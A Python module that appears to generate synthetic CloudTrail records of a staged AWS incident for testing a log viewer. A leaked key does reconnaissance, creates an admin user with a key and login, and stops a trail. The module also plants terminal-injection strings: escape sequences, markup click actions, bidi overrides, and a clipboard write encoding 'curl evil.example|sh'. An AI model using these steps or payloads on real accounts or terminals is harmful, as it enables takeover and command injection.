"""The incident to find: the holder of a leaked key looks around, creates access for itself, and stops a trail."""

from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial

from ctui.emulator.traffic.cast import BOTO3, BROWSER, CLI, FOREIGN, Actor, SampleAccount
from ctui.emulator.traffic.scene import ADMIN, HOUR, UNAUTHORIZED, Scene, denied

LEAKED_USER = "deploy-bot"
NEW_USER = "svc-backup"
TRAIL = "legacy"
_STOP_AFTER = 1187
"""Seconds from the first call to StopLogging."""

HOSTILE_AGENTS = (
    "[bold red]CRITICAL[/bold red] [@click=app.quit]click here[/] [/x]",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mroot\x1b[0m python-requests/2.32",
    "aws-cli/2.0 \u202egpj.reganam\u202c \u2066invoice\u2069\u200b",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07curl/8.5 [link=https://evil.example]docs[/link]",
)
"""Hostile user agents, from an attacker who knows that logs are read in terminals and consoles."""


def incident_begins(seed: int, now: int) -> int:
    """The epoch second of the leaked key's first call: early morning UTC, one to two days before `now`."""
    dice = SampleAccount(seed, "").dice("incident")
    night = (now - 24 * HOUR) // (24 * HOUR) * 24 * HOUR + 2 * HOUR + dice.randrange(2 * HOUR)
    return night if night + 2 * HOUR < now - 12 * HOUR else night - 24 * HOUR


def incident_stop(seed: int, now: int) -> int:
    """The epoch second at which the incident stops the trail `legacy`, in the week that ends at `now`."""
    return incident_begins(seed, now) + _STOP_AFTER


@dataclass(frozen=True, slots=True)
class _Thief:
    """The holder of the leaked key, and of the key it makes for itself."""

    leaked: Actor
    made: Actor
    console: Actor


def incident(sample: SampleAccount, now: int) -> Scene:
    """All records of the incident, in whichever hours they are."""
    start = incident_begins(sample.seed, now)
    scene = Scene(sample, "incident", start // HOUR)
    thief = _Thief(
        sample.user(LEAKED_USER, FOREIGN, CLI),
        sample.user(NEW_USER, FOREIGN, BOTO3),
        sample.user(NEW_USER, FOREIGN, BROWSER, session=(start + 2400, False)),
    )
    _look_around(scene, thief.leaked, start)
    _settle(scene, thief.leaked, start + 700)
    _cover(scene, thief.made, start + _STOP_AFTER)
    _leave_texts(scene, thief.made, start + 1500)
    scene.sign_in(start + 2400, thief.console, mfa=False)
    for step, action in enumerate(("iam:ListUsers", "s3:ListBuckets", "secretsmanager:ListSecrets")):
        scene.call(start + 2420 + 7 * step, thief.console, action)
    return scene


def _look_around(scene: Scene, actor: Actor, start: int) -> None:
    refused = partial(denied, actor)
    account = scene.sample.account
    second = seconds(scene, start)
    scene.call(next(second), actor, "sts:GetCallerIdentity")
    scene.call(next(second), actor, "s3:ListBuckets")
    scene.call(next(second), actor, "iam:ListUsers", error=refused("iam:ListUsers", f"arn:aws:iam::{account}:user/"))
    scene.call(next(second), actor, "iam:GetUser", {"userName": LEAKED_USER})
    scene.call(next(second), actor, "iam:ListAttachedUserPolicies", {"userName": LEAKED_USER})
    scene.call(next(second), actor, "iam:ListGroupsForUser", {"userName": LEAKED_USER})
    whole = refused("iam:GetAccountAuthorizationDetails", "*")
    scene.call(next(second), actor, "iam:GetAccountAuthorizationDetails", error=whole)
    for region in ("us-east-1", "eu-west-1", "us-west-2", "ap-southeast-1", "sa-east-1"):
        request: dict[str, object] = {"instancesSet": {}, "filterSet": {}}
        error = None if region in ("us-east-1", "eu-west-1") else UNAUTHORIZED
        scene.call(next(second), actor, "ec2:DescribeInstances", request, region=region, error=error)
        scene.call(next(second), actor, "ec2:DescribeSecurityGroups", {"filterSet": {}}, region=region, error=error)
        scene.call(next(second), actor, "lambda:ListFunctions20150331", region=region)
    scene.call(next(second), actor, "secretsmanager:ListSecrets")
    for secret in ("prod/shop/database", "prod/payment", "prod/db"):
        arn = f"arn:aws:secretsmanager:us-east-1:{account}:secret:{secret}"
        error = refused("secretsmanager:GetSecretValue", arn)
        scene.call(next(second), actor, "secretsmanager:GetSecretValue", {"secretId": secret}, error=error)
    for bucket in ("shop-orders-export", "analytics-lake"):
        asked = {"bucketName": bucket, "Host": f"{bucket}.s3.us-east-1.amazonaws.com", "acl": ""}
        scene.call(next(second), actor, "s3:GetBucketAcl", asked)
    scene.call(next(second), actor, "cloudtrail:DescribeTrails", {"includeShadowTrails": True})
    scene.call(next(second), actor, "cloudtrail:GetTrailStatus", {"name": TRAIL})
    scene.call(next(second), actor, "guardduty:ListDetectors", error=refused("guardduty:ListDetectors", "*"))


def _settle(scene: Scene, actor: Actor, start: int) -> None:
    second = seconds(scene, start)
    account = scene.sample.account
    user = {
        "path": "/",
        "userName": NEW_USER,
        "userId": scene.sample.named("AIDA", NEW_USER),
        "arn": f"arn:aws:iam::{account}:user/{NEW_USER}",
    }
    too_much = denied(actor, "iam:CreateUser", f"arn:aws:iam::{account}:user/root2")
    scene.call(next(second), actor, "iam:CreateUser", {"userName": "root2"}, error=too_much)
    scene.call(next(second), actor, "iam:CreateUser", {"userName": NEW_USER}, {"user": user})
    key = {"accessKeyId": scene.sample.named("AKIA", NEW_USER), "status": "Active", "userName": NEW_USER}
    scene.call(next(second), actor, "iam:CreateAccessKey", {"userName": NEW_USER}, {"accessKey": key})
    scene.call(next(second), actor, "iam:AttachUserPolicy", {"userName": NEW_USER, "policyArn": ADMIN})
    profile = {"loginProfile": {"userName": NEW_USER, "passwordResetRequired": False}}
    request = {"userName": NEW_USER, "passwordResetRequired": False}
    scene.call(next(second), actor, "iam:CreateLoginProfile", request, profile)


def _cover(scene: Scene, actor: Actor, stop: int) -> None:
    scene.call(stop - 31, actor, "sts:GetCallerIdentity")
    scene.call(stop - 12, actor, "cloudtrail:DescribeTrails")
    scene.call(stop, actor, "cloudtrail:StopLogging", {"name": TRAIL})
    arn = f"arn:aws:cloudtrail:us-east-1:{scene.sample.account}:trail/org-audit"
    error = (
        "AccessDenied",
        f"User: {actor.arn} is not authorized to perform: cloudtrail:StopLogging on resource: {arn} "
        "with an explicit deny in a service control policy",
    )
    scene.call(stop + 9, actor, "cloudtrail:StopLogging", {"name": "org-audit"}, error=error)
    scene.call(stop + 15, actor, "cloudtrail:DeleteTrail", {"name": "org-audit"}, error=error)
    request = {"instancesSet": {"items": [{"minCount": 8, "maxCount": 8}]}, "instanceType": "p5.48xlarge"}
    limit = (
        "Client.VcpuLimitExceeded",
        "You have requested more vCPU capacity than your current vCPU limit of 0 allows.",
    )
    for region in ("ap-southeast-1", "us-east-1"):
        scene.call(stop + 60, actor, "ec2:RunInstances", request, region=region, error=limit)


def _leave_texts(scene: Scene, actor: Actor, start: int) -> None:
    second = seconds(scene, start)
    for agent in HOSTILE_AGENTS:
        scene.call(next(second), actor.using(agent=agent), "sts:GetCallerIdentity")
        scene.call(next(second), actor.using(agent=agent), "iam:ListAccessKeys", {"userName": NEW_USER})
    odd = ("[/red][@click=app.bell]free[/]", "\x1b[31;1malarm\x1b[0m", "evil\u202etxt.exe")
    for name in odd:
        request = {"bucketName": name, "Host": "s3.amazonaws.com", "policy": ""}
        error = ("InvalidBucketName", "The specified bucket is not valid.")
        scene.call(next(second), actor, "s3:GetBucketPolicy", request, error=error)
    group = {"groupName": "default[/bold]", "groupDescription": "\u202eecnanif\u202c [blink]pay now[/blink]\r\n\tnext"}
    scene.call(
        next(second), actor, "ec2:CreateSecurityGroup", group, {"_return": True, "groupId": "sg-0" + scene.dice.hex(16)}
    )
    subject = "repo:evil/shop[@click=app.quit]x[/]:ref:refs/heads/\u202eniam"
    provider = f"arn:aws:iam::{scene.sample.account}:oidc-provider/token.actions.githubusercontent.com"
    stranger = Actor(
        {
            "type": "WebIdentityUser",
            "principalId": f"{provider}:{subject}",
            "userName": subject,
            "identityProvider": provider,
        },
        FOREIGN,
        HOSTILE_AGENTS[0],
    )
    error = ("AccessDenied", "Not authorized to perform sts:AssumeRoleWithWebIdentity")
    request = {"roleArn": f"arn:aws:iam::{scene.sample.account}:role/ci-deploy", "roleSessionName": "x"}
    scene.call(next(second), stranger, "sts:AssumeRoleWithWebIdentity", request, error=error)


def seconds(scene: Scene, start: int) -> Iterator[int]:
    """Increasing seconds: first a script works fast, then its owner reads."""
    second = start
    while True:
        yield second
        second += scene.dice.choice((1, 1, 1, 2, 3, 8, 21))
